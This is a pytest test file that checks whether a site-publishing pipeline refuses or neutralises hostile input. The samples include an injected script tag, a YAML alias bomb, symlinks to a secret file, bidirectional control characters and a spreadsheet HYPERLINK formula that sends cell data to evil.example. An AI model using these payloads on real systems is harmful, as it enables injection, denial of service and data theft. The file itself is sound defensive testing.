"""Hostile input, round two: files that are not pages, aliases that expand, text that
breaks outputs, formulas in open data, dates out of range. Each is refused at its place."""

from __future__ import annotations

import os

import pytest
from commons.generate.open_data import formula_safe
from commons.pipeline import load
from helpers import edit
from hostile import copy_of, refused

POLICY = "content/policies/learning.md"
BODY = "We all learn from each other."


def texts(mini, code: str) -> list[str]:
    return [p.text() for p in load(mini).problems if p.code == code]


@pytest.mark.parametrize("name, expected", [
    ("about/x.html", "content/about/x.html: a .html file is not published from content/ "
                     "(content/ holds pages (.md) and, in a page's folder, pictures (PNG, "
                     "JPEG, GIF, WebP) or PDFs)"),
    ("assets/directory.js", "content/assets/directory.js: this file would replace one of the "
                            "site's own files of the same name (give it another name, in the "
                            "folder of the page that uses it)"),
    ("toolkits/flow.svg", "content/toolkits/flow.svg: SVG pictures are not published: an SVG "
                          "can carry script and links that run on the site and in the "
                          "downloads (export the picture as PNG and use that)"),
    ("policies/extra.markdown", "content/policies/extra.markdown: a page must end in .md, not "
                                ".markdown: this one would be published with no check at all "
                                "(rename it to extra.md)"),
    ("policies/LOUD.MD", "content/policies/LOUD.MD: a page must end in .md, not .MD: this one "
                         "would be published with no check at all (rename it to LOUD.md)"),
    ("toolkits/notes.txt", "content/toolkits/notes.txt: a .txt file is not published from "
                           "content/ (content/ holds pages (.md) and, in a page's folder, "
                           "pictures (PNG, JPEG, GIF, WebP) or PDFs)"),
])
def test_a_file_that_is_not_a_page_or_picture_is_refused(mini, name, expected):
    path = mini / "content" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("<script>alert(1)</script>\n", encoding="utf-8")
    assert texts(mini, "CM005") == [expected]


def test_a_picture_beside_its_page_is_published_and_a_link_anywhere_refused(mini, tmp_path):
    (mini / "content/toolkits/flow.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    assert texts(mini, "CM005") == []
    secret = tmp_path / "secret.txt"
    secret.write_text("key", encoding="utf-8")
    os.symlink(secret, mini / "content/toolkits/inside.png")
    os.symlink(mini / "content/toolkits/flow.png", mini / "content/toolkits/twin.png")
    assert texts(mini, "CM005") == [
        f"content/toolkits/{name}: this is a symbolic link; what it points at would be "
        "published (copy the file into content/ instead of linking to it)"
        for name in ("inside.png", "twin.png")]


def test_yaml_aliases_are_refused_before_they_expand(mini):
    laughs = "a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + "".join(
        f"{chr(98 + n)}: &{chr(98 + n)} [*{chr(97 + n)}, *{chr(97 + n)}, *{chr(97 + n)}, "
        f"*{chr(97 + n)}, *{chr(97 + n)}, *{chr(97 + n)}, *{chr(97 + n)}, *{chr(97 + n)}, "
        f"*{chr(97 + n)}]\n" for n in range(8))
    edit(mini / POLICY, "owner: Learning Circle\n", f"owner: Learning Circle\n{laughs}")
    assert texts(mini, "CM002") == [
        "content/policies/learning.md:7: front matter may not use YAML anchors or aliases "
        "(& and *) (write each value out in full; put text that starts with & or * in quotes)"]


@pytest.mark.parametrize("character", ["\x00", "\x0b", "\x1b", "\x85", "\u202e"])
def test_a_control_character_is_refused_in_a_body_and_a_cell(mini, character):
    edit(mini / POLICY, BODY, f"{BODY} And{character} more.")
    edit(mini / "data/topics.csv", "Keeping people safe", f"Keeping{character} people safe")
    found = texts(mini, "CM108")
    assert [t.split(": the text")[0] for t in found] == [
        "content/policies/learning.md:14", "data/topics.csv:row 3:description"]


@pytest.mark.parametrize("character, code", [("\x00", "CM002"), ("\x1b", "CM002"),
                                             ("\u202e", "CM108")])
def test_a_control_character_in_a_title_is_refused_at_its_line(mini, character, code):
    edit(mini / POLICY, "title: Learning policy", f"title: Learning{character} policy")
    [found] = texts(mini, code)
    assert found.startswith("content/policies/learning.md:2: ")
    assert ("U+" in found) if code == "CM002" else ("never closed" in found)


def test_balanced_direction_marks_are_text(mini):
    edit(mini / POLICY, BODY, f"{BODY} \u2067\u0645\u0631\u062d\u0628\u0627\u2069 means hello.")
    assert texts(mini, "CM108") == []


def test_a_formula_in_a_cell_is_published_as_text():
    hostile = ('id,bio\nx,"=HYPERLINK(""https://evil.example/""&A1,""Click"")"\n'
               "y,@SUM(1+1)\nz,-3\nw,+44 1632 960000\n")
    assert formula_safe(hostile) == ('id,bio\nx,"\'=HYPERLINK(""https://evil.example/""&A1,'
                                     '""Click"")"\ny,\'@SUM(1+1)\nz,-3\nw,\'+44 1632 960000\n')


def test_an_event_in_the_year_9999_is_refused_at_its_row_not_a_traceback(mini_built, tmp_path):
    commons, site = copy_of(mini_built, tmp_path)
    edit(commons / "data/events.csv", "2027-03-25T10:00", "9999-03-25T10:00")
    assert "data/events.csv:row 3:start: the year 9999 is outside 2000 to 2100 (check the " \
           "date: write it as YYYY-MM-DDTHH:MM, e.g. 2027-07-20T09:00)" in texts(commons, "CM104")
    result = refused(commons, site)
    assert "Traceback" not in result.stderr and "year 9999" in result.stderr


def test_every_xml_the_site_publishes_is_well_formed(mini_site):
    """The feed, the sitemap, the charts and every XML part of each EPUB and DOCX parse."""
    import gzip
    import xml.etree.ElementTree as ET
    import zipfile

    parsed = 0
    charts = sorted(mini_site.rglob("*.svg"))
    assert charts
    for path in [mini_site / "feed.xml", mini_site / "sitemap.xml", *charts]:
        ET.fromstring(path.read_bytes())
        parsed += 1
    ET.fromstring(gzip.decompress((mini_site / "sitemap.xml.gz").read_bytes()))
    for download in sorted((mini_site / "downloads").glob("*.*")):
        if download.suffix in (".epub", ".docx"):
            with zipfile.ZipFile(download) as archive:
                for name in archive.namelist():
                    if name.endswith((".xml", ".xhtml", ".opf", ".ncx", ".rels")):
                        ET.fromstring(archive.read(name))
                        parsed += 1
    assert parsed > 10
